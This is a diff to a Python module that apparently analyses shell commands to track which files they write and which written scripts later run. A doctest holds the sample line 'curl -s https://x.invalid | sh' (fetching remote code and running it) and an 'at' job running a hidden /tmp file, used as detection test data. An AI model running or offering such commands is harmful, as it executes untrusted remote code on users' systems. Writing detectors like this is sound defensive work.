@@ -58,6 +58,8 @@ def written_files(words: list[str]) -> list[str]:
     if command == "sudo" and len(words) > 1:
         command = words[1].rsplit("/", 1)[-1]
     if command not in _WRITE_FILES:
+        if "tee" not in words:
+            return []
         return [words[words.index("tee") + 1]] if "tee" in words[2:-1] and words[words.index("tee") - 1] == "|" else []
     plain = [word for word in words[1:] if not word.startswith("-") and word not in ("|", "sudo")]
     if command in ("cp", "mv", "scp", "rsync", "ln", "install") and len(plain) >= 2:
@@ -190,10 +192,11 @@ class Files:
         >>> list(files.programs(["at -f /tmp/.a now"])), list(files.programs(["cat /tmp/.a"]))
         ([(3, 'curl -s https://x.invalid | sh')], [])
         """
-        started = {name for text in texts for name in self._started(text)}
-        for name, pieces in self.texts.items():
-            said = "\n".join(pieces)
-            if _SAYS_COMMAND.search(said) and (name in started or said.lstrip().startswith("#!")):
+        whole = ((name, "\n".join(pieces)) for name, pieces in self.texts.items())
+        saying = [(name, said) for name, said in whole if _SAYS_COMMAND.search(said)]
+        started = {name for text in texts for name in self._started(text)} if saying else set[str]()
+        for name, said in saying:
+            if name in started or said.lstrip().startswith("#!"):
                 yield self.lines[name], said
 
     def _started(self, text: str) -> Iterator[str]:
